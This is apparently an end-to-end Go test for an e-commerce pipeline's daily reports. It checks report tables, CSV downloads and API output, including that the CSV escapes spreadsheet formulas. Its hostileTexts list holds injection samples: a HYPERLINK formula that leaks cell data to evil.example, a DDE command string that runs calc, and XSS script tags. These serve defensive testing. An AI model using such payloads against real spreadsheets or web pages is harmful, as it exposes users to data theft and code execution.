package e2e

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"math/big"
	"math/rand/v2"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	"cloud.google.com/go/civil"
	"cloud.google.com/go/storage"
	"github.com/google/go-cmp/cmp"
	"google.golang.org/api/iterator"

	"github.com/zackkki/ecomm_datapipeline/pkg/config"
	"github.com/zackkki/ecomm_datapipeline/services/pipelinectl/model"
	"github.com/zackkki/ecomm_datapipeline/services/pipelinectl/verify"
	"github.com/zackkki/ecomm_datapipeline/services/reporter/daily"
)

// hostileTexts are names that a person or a program might put into any field.
var hostileTexts = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`,
	`"quoted", comma; 'single'`, "two\nlines", "שלום עולם", "🎉 party 👩‍🚀", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
	"'apostrophe", "</style><script>alert(2)</script>", "&lt;b&gt; & co", "\u202eright to left", "＝1+1", "]]>--><!--", "{{.Date}} %s ${x}",
}

// reportColumns are the sheets' columns; text ones may carry an apostrophe in CSV.
var reportColumns = map[string][]string{
	"churn-risk": {
		"position", "customer_id", "customer_name", "customer_tier", "first_order_date", "last_order_date", "days_since_last_order", "orders",
		"order_days", "lifetime_value", "completed_value", "usual_interval_days", "expected_interval_days", "risk_score", "risk_level",
	},
	"inventory-alerts": {
		"position", "product_id", "product_name", "category", "alert", "severity", "is_active", "stock_level", "units_7d", "units_28d",
		"units_per_day_7d", "units_per_day_28d", "demand_per_day", "days_of_cover", "revenue_28d",
	},
	"revenue-trends": {
		"position", "granularity", "level", "region", "category", "period_start", "period_end", "orders", "units", "revenue",
		"completed_revenue", "previous_revenue", "change_ratio", "moving_average_7", "moving_average_28", "expected_revenue", "deviation", "anomaly",
	},
	"data-quality": {"position", "section", "check_name", "table_name", "subject", "value", "unit", "expectation", "status"},
}

var textColumns = map[string]bool{
	"customer_id": true, "customer_name": true, "customer_tier": true, "risk_level": true, "product_id": true, "product_name": true,
	"category": true, "alert": true, "severity": true, "granularity": true, "level": true, "region": true, "anomaly": true,
	"section": true, "check_name": true, "table_name": true, "subject": true, "unit": true, "expectation": true, "status": true,
}

// TestDailyReports lands five months of orders with hostile names, makes the reports
// of two dates, and holds tables, files and API against the model.
func TestDailyReports(t *testing.T) {
	t.Parallel()
	p := start(t, "all")
	history, today := landHistory(t, p)
	files := p.inputs(t, history)
	// The clock says tomorrow, so that today is over and its files and findings count.
	now := today.AddDate(0, 0, 1).Add(time.Hour)
	var cfg daily.Config
	if err := config.Defaults(&cfg); err != nil {
		t.Fatal(err)
	}
	cfg.Config, cfg.TrendMaxSeries = p.endpoints, 6 // so that smaller series are summed up
	runner, err := daily.New(t.Context(), cfg, func() time.Time { return now })
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = runner.Close() })

	warehouse, err := model.Compute(files, p.policy)
	if err != nil {
		t.Fatal(err)
	}
	dates := []time.Time{today.AddDate(0, 0, -1), today}
	for _, date := range dates {
		if err := runner.Make(t.Context(), civil.DateOf(date), nil); err != nil {
			t.Fatal(err)
		}
		want := wantReports(warehouse, files, date)
		for id, sheet := range want {
			if len(sheet) == 0 {
				t.Errorf("%s of %s is empty: the test tests nothing", id, civil.DateOf(date))
			}
			p.compareReport(t, id, civil.DateOf(date), sheet)
		}
		p.comparePage(t, civil.DateOf(date), want)
	}
	if complete, err := runner.Complete(t.Context(), civil.DateOf(today)); err != nil || !complete {
		t.Errorf("today's reports complete: %v, %v", complete, err)
	}

	// Again, and four times at once: nothing changes, not even the objects' generations.
	before := p.reportState(t)
	if err := runner.Make(t.Context(), civil.DateOf(today), nil); err != nil {
		t.Fatal(err)
	}
	var runs sync.WaitGroup
	for i := range 4 {
		runs.Go(func() {
			if err := runner.Make(t.Context(), civil.DateOf(dates[i%2]), nil); err != nil {
				t.Error(err)
			}
		})
	}
	runs.Wait()
	if diff := cmp.Diff(before, p.reportState(t)); diff != "" {
		t.Errorf("repeated runs change the reports (-before +after):\n%s", diff)
	}
	if err := runner.Make(t.Context(), civil.DateOf(today).AddDays(2), nil); err == nil {
		t.Error("reports of a day that has not begun were made")
	}
	p.crashAndRepeat(t, runner, civil.DateOf(today), before)

	// Orders that come late: the date made again is as if they had been there.
	var late bytes.Buffer
	rnd := rand.New(rand.NewPCG(13, 21))
	for i := range 50 {
		late.Write(historicOrder(t, rnd, today, 5000+i))
	}
	history.add(t, p, "orders/late.json", late.Bytes())
	p.awaitFiles(t, len(history.sources))
	files = p.inputs(t, history)
	if warehouse, err = model.Compute(files, p.policy); err != nil {
		t.Fatal(err)
	}
	if err := runner.Make(t.Context(), civil.DateOf(today), nil); err != nil {
		t.Fatal(err)
	}
	want := wantReports(warehouse, files, today)
	for id, sheet := range want {
		p.compareReport(t, id, civil.DateOf(today), sheet)
	}
	p.comparePage(t, civil.DateOf(today), want)
	if table := "report_churn_risk"; before[table] == p.reportState(t)[table] {
		t.Error("late orders change nothing: the test tests nothing")
	}
}

// crashAndRepeat ends a run after its first report and after its last, before the
// date's files are there, and finds the same reports after the next run.
func (p *pipeline) crashAndRepeat(t *testing.T, runner *daily.Runner, date civil.Date, want map[string]string) {
	t.Helper()
	for _, last := range []string{daily.ChurnRisk, daily.DataQuality} {
		for name := range want {
			if strings.HasPrefix(name, daily.ObjectName(date, "")) {
				if err := p.bucket().Object(name).Delete(t.Context()); err != nil {
					t.Fatal(err)
				}
			}
		}
		ctx, crash := context.WithCancel(t.Context())
		err := runner.Make(ctx, date, func(s daily.Step) {
			if s.What == last {
				crash()
			}
		})
		crash()
		if !errors.Is(err, context.Canceled) {
			t.Errorf("a run that ended after %s: %v", last, err)
		}
		if _, err := p.bucket().Object(daily.ObjectName(date, daily.PageFile)).Attrs(t.Context()); !errors.Is(err, storage.ErrObjectNotExist) {
			t.Errorf("a run that ended after %s has left a page: %v", last, err)
		}
		if err := runner.Make(t.Context(), date, nil); err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(withoutGenerations(want), withoutGenerations(p.reportState(t))); diff != "" {
			t.Errorf("reports after a run that ended after %s (-want +got):\n%s", last, diff)
		}
	}
}

func withoutGenerations(state map[string]string) map[string]string {
	contents := make(map[string]string)
	for name, content := range state {
		if strings.Contains(name, "/") {
			_, content, _ = strings.Cut(content, " ")
		}
		contents[name] = content
	}
	return contents
}

// TestReportOfARunningDay says that the day is not over, and is replaced when it is;
// of a broken report it tells, and makes the others.
func TestReportOfARunningDay(t *testing.T) {
	t.Parallel()
	p := start(t, "all")
	var cfg daily.Config
	if err := config.Defaults(&cfg); err != nil {
		t.Fatal(err)
	}
	cfg.Config = p.endpoints
	now := time.Now().UTC().Truncate(time.Microsecond)
	runner, err := daily.New(t.Context(), cfg, func() time.Time { return now })
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = runner.Close() })
	today := civil.DateOf(now)
	// An empty warehouse has reports, too.
	if err := runner.Make(t.Context(), today, nil); err != nil {
		t.Fatal(err)
	}
	if complete, err := runner.Complete(t.Context(), today); err != nil || complete {
		t.Errorf("a running day is complete: %v, %v", complete, err)
	}
	if page := p.object(t, daily.ObjectName(today, daily.PageFile)); !strings.Contains(page, "The day was not over") {
		t.Error("the page does not say that the day was not over")
	}
	now = daily.EndOf(today)
	p.mustQuery(t, "DROP TABLE report_inventory_alerts")
	var steps []string
	err = runner.Make(t.Context(), today, func(s daily.Step) {
		steps = append(steps, fmt.Sprint(s.What, " ", s.Err == nil))
	})
	if err == nil || !strings.Contains(err.Error(), "inventory-alerts of "+today.String()) {
		t.Errorf("error of a broken report: %v", err)
	}
	if diff := cmp.Diff([]string{"churn-risk true", "inventory-alerts false", "revenue-trends true", "data-quality true", "files false"}, steps); diff != "" {
		t.Errorf("steps (-want +got):\n%s", diff)
	}
	var list struct {
		Rows []struct {
			Date     string `json:"date"`
			Complete bool   `json:"complete"`
			Reports  []struct {
				Report string `json:"report"`
			} `json:"reports"`
		} `json:"rows"`
	}
	p.askInto(t, "reports", &list)
	if len(list.Rows) != 1 || list.Rows[0].Date != today.String() || len(list.Rows[0].Reports) != 4 {
		t.Errorf("list of reports: %+v", list)
	}
}

// landHistory lands catalogs and orders of 160 days up to tomorrow, and waits for them.
func landHistory(t *testing.T, p *pipeline) (*landed, time.Time) {
	t.Helper()
	rnd := rand.New(rand.NewPCG(5, 8))
	today := time.Now().UTC().Truncate(24 * time.Hour)
	var landed landed
	landed.add(t, p, "products/products.csv", catalog(t, "product_id,product_name,category,price,stock_level", 40, func(i int) []string {
		return []string{fmt.Sprintf("P-%02d", i), hostileTexts[i%len(hostileTexts)], []string{"Books", hostileTexts[i%3], "Toys", hostileTexts[5]}[i%4], "9.99", fmt.Sprint(i*i - 9)}
	}))
	landed.add(t, p, "customers/customers.csv", catalog(t, "customer_id,name,email,registration_date,customer_tier", 60, func(i int) []string {
		return []string{fmt.Sprintf("C-%02d", i), hostileTexts[i%len(hostileTexts)], "a@example.com", "2025-01-01", []string{"gold", "<b>silver</b>", "=bronze"}[i%3]}
	}))
	p.awaitFiles(t, 2)
	for file := range 3 {
		var content bytes.Buffer
		for i := range 700 {
			content.Write(historicOrder(t, rnd, today, file*700+i))
		}
		if file == 1 {
			content.WriteString("{\"order_id\": \n")       // malformed
			content.Write(historicOrder(t, rnd, today, 3)) // the same order_id with other content
		}
		landed.add(t, p, fmt.Sprintf("orders/orders_%d.json", file), content.Bytes())
	}
	landed.add(t, p, "orders/empty.json", nil) // goes to quarantine
	p.awaitFiles(t, len(landed.sources))
	return &landed, today
}

// inputs are the files that landed, as the model takes them.
func (p *pipeline) inputs(t *testing.T, landed *landed) []model.File {
	t.Helper()
	clients, err := verify.Open(t.Context(), p.endpoints)
	if err != nil {
		t.Fatal(err)
	}
	defer clients.Close()
	files, err := clients.Files(t.Context(), landed.sources)
	if err != nil {
		t.Fatal(err)
	}
	return files
}

func catalog(t *testing.T, header string, n int, row func(int) []string) []byte {
	t.Helper()
	var b bytes.Buffer
	w := csv.NewWriter(&b)
	rows := [][]string{strings.Split(header, ",")}
	for i := range n {
		rows = append(rows, row(i))
	}
	if err := w.WriteAll(rows); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// historicOrder is an order of one of the 160 days up to tomorrow. Customers order
// in bursts: half of them stay away since long ago.
func historicOrder(t *testing.T, rnd *rand.Rand, today time.Time, i int) []byte {
	t.Helper()
	customer := rnd.IntN(70) // the last ten are in no catalog
	daysAgo := rnd.IntN(160) - 1
	if customer%2 == 0 {
		daysAgo = 29 + rnd.IntN(131)
	}
	if customer >= 66 {
		daysAgo = 31 + customer // a single order day
	}
	type line struct {
		Product  string      `json:"product_id"`
		Quantity int         `json:"quantity"`
		Price    json.Number `json:"unit_price"`
	}
	cents := func(n int) json.Number { return json.Number(fmt.Sprintf("%d.%02d", n/100, n%100)) }
	var lines []line
	total := 0
	for range 1 + rnd.IntN(3) {
		l := line{fmt.Sprintf("P-%02d", rnd.IntN(44)), 1 + rnd.IntN(4), ""} // four are in no catalog
		price := 100 + rnd.IntN(9900)
		if rnd.IntN(200) == 0 {
			price *= 400 // an outlier
		}
		l.Price = cents(price)
		total += l.Quantity * price
		lines = append(lines, l)
	}
	country, state := "US", []string{"NY", "CA", "TX", "IL"}[rnd.IntN(4)]
	if rnd.IntN(4) == 0 {
		country, state = hostileTexts[rnd.IntN(8)], ""
	}
	text, err := json.Marshal(map[string]any{
		"order_id": fmt.Sprintf("O-%d", i), "customer_id": fmt.Sprintf("C-%02d", customer), "items": lines, "total_amount": cents(total),
		"order_timestamp": today.AddDate(0, 0, -daysAgo).Add(time.Duration(rnd.IntN(86400)) * time.Second).Format(time.RFC3339),
		"payment_status":  []string{"completed", "completed", "pending", "failed", "on hold"}[rnd.IntN(5)],
		"shipping_address": map[string]string{
			"street": "1 Main St", "city": hostileTexts[rnd.IntN(len(hostileTexts))] + "\r\n", "state": state, "zipcode": "", "country": country,
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	return append(text, '\n')
}

// wantReports computes the reports of a date that is over.
func wantReports(w *model.Warehouse, files []model.File, date time.Time) map[string]model.Sheet {
	o := model.ReportOptions{
		Date: date, Through: date.AddDate(0, 0, 1), ChurnAfterDays: 30, CoverCriticalDays: 7, CoverWarningDays: 14, MaxSeries: 6,
		CompletenessMin: big.NewRat(9, 10), OrdersMaxAgeHours: 2, CatalogsMaxAgeHours: 26,
	}
	return map[string]model.Sheet{
		"churn-risk": w.ChurnRisk(o), "inventory-alerts": w.InventoryAlerts(o), "revenue-trends": w.RevenueTrends(o), "data-quality": w.DataQuality(o, files),
	}
}

// compareReport holds a report's table, its CSV file and the API against the model.
func (p *pipeline) compareReport(t *testing.T, id string, date civil.Date, want model.Sheet) {
	t.Helper()
	columns := reportColumns[id]
	var table model.Sheet
	query := fmt.Sprintf("SELECT %s FROM report_%s WHERE report_date = '%s' ORDER BY position", strings.Join(columns, ", "), strings.ReplaceAll(id, "-", "_"), date)
	for _, row := range p.mustQuery(t, query) {
		cells := make([]string, len(row))
		for i, v := range row {
			if v != nil {
				cells[i] = valueText(v)
			}
		}
		table = append(table, cells)
	}
	if diff := firstDiff(want, table); diff != "" {
		t.Errorf("table of %s of %s (-want +got):\n%s", id, date, diff)
	}
	if diff := firstDiff(want, p.readCSV(t, id, date, columns)); diff != "" {
		t.Errorf("CSV of %s of %s (-want +got):\n%s", id, date, diff)
	}
	if diff := firstDiff(want, p.askReport(t, id, date, columns)); diff != "" {
		t.Errorf("API's %s of %s (-want +got):\n%s", id, date, diff)
	}
}

// firstDiff shows the first rows that differ: a report has thousands.
func firstDiff(want, got model.Sheet) string {
	if len(want) != len(got) {
		n := min(len(want), len(got))
		return fmt.Sprintf("%d rows instead of %d; %s", len(got), len(want), cmp.Diff(want[:min(n, 5)], got[:min(n, 5)]))
	}
	for i := range want {
		if diff := cmp.Diff(want[i], got[i]); diff != "" {
			return fmt.Sprintf("row %d:\n%s", i, diff)
		}
	}
	return ""
}

// readCSV reads a report's file as a program would, from the reporter.
func (p *pipeline) readCSV(t *testing.T, id string, date civil.Date, columns []string) model.Sheet {
	t.Helper()
	content := p.object(t, daily.ObjectName(date, id+".csv"))
	response, err := http.Get(fmt.Sprintf("%s/reports/%s/%s.csv", p.dashboard, date, id))
	if err != nil {
		t.Fatal(err)
	}
	defer response.Body.Close()
	served, err := io.ReadAll(response.Body)
	if err != nil || string(served) != content || !strings.HasPrefix(response.Header.Get("Content-Disposition"), "attachment") {
		t.Errorf("%s of %s is served otherwise: %v %v", id, date, response.Header, err)
	}
	if strings.Count(content, "\r\n") < strings.Count(content, "\n")/2 || !strings.HasSuffix(content, "\r\n") {
		t.Errorf("%s of %s: records do not end in CR LF", id, date)
	}
	rows, err := csv.NewReader(strings.NewReader(content)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(append([]string{"report_date"}, columns...), rows[0]); diff != "" {
		t.Errorf("header of %s (-want +got):\n%s", id, diff)
	}
	var sheet model.Sheet
	for _, row := range rows[1:] {
		if row[0] != date.String() {
			t.Errorf("%s: date %s", id, row[0])
		}
		cells := row[1:]
		for i, cell := range cells {
			if !textColumns[columns[i]] || cell == "" {
				continue
			}
			if strings.ContainsAny(cell[:1], "=+-@\t\r") || strings.HasPrefix(cell, "＝") {
				t.Errorf("%s: a spreadsheet takes %q for a formula", id, cell)
			}
			cells[i] = strings.TrimPrefix(cell, "'")
		}
		sheet = append(sheet, cells)
	}
	return sheet
}

// askReport reads a report page by page from the API.
func (p *pipeline) askReport(t *testing.T, id string, date civil.Date, columns []string) model.Sheet {
	t.Helper()
	var sheet model.Sheet
	for token := ""; ; {
		path := fmt.Sprintf("reports/%s?date=%s&limit=999", id, date)
		if token != "" {
			path += "&page_token=" + token
		}
		var answer struct {
			RowCount      int              `json:"row_count"`
			Complete      bool             `json:"complete"`
			NextPageToken string           `json:"next_page_token"`
			Rows          []map[string]any `json:"rows"`
		}
		p.askInto(t, path, &answer)
		for _, row := range answer.Rows {
			cells := make([]string, len(columns))
			for i, c := range columns {
				if row[c] != nil {
					cells[i] = fmt.Sprint(row[c])
				}
				if f, isNumber := row[c].(float64); isNumber {
					cells[i] = fmt.Sprintf("%.0f", f)
				}
				if amount, isText := row[c].(string); isText && !textColumns[c] && strings.Contains(amount, ".") {
					cells[i] = strings.TrimSuffix(strings.TrimRight(amount, "0"), ".")
				}
			}
			sheet = append(sheet, cells)
		}
		if token = answer.NextPageToken; token == "" {
			if answer.RowCount != len(sheet) || !answer.Complete {
				t.Errorf("%s of %s: %d rows announced, %d read, complete %v", id, date, answer.RowCount, len(sheet), answer.Complete)
			}
			return sheet
		}
	}
}

// reportState is all that daily runs leave behind.
func (p *pipeline) reportState(t *testing.T) map[string]string {
	t.Helper()
	state := make(map[string]string)
	for _, table := range []string{"report_churn_risk", "report_inventory_alerts", "report_revenue_trends", "report_data_quality", "report_runs"} {
		state[table] = text(p.mustQuery(t, "SELECT * FROM "+table+" ORDER BY 1, 2"))
	}
	objects := p.bucket().Objects(t.Context(), &storage.Query{Prefix: "reports/"})
	for {
		attrs, err := objects.Next()
		if errors.Is(err, iterator.Done) {
			return state
		}
		if err != nil {
			t.Fatal(err)
		}
		state[attrs.Name] = fmt.Sprint(attrs.Generation, " ", p.object(t, attrs.Name))
	}
}

func (p *pipeline) object(t *testing.T, name string) string {
	t.Helper()
	r, err := p.bucket().Object(name).NewReader(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	content, err := io.ReadAll(r)
	if err != nil {
		t.Fatal(err)
	}
	return string(content)
}
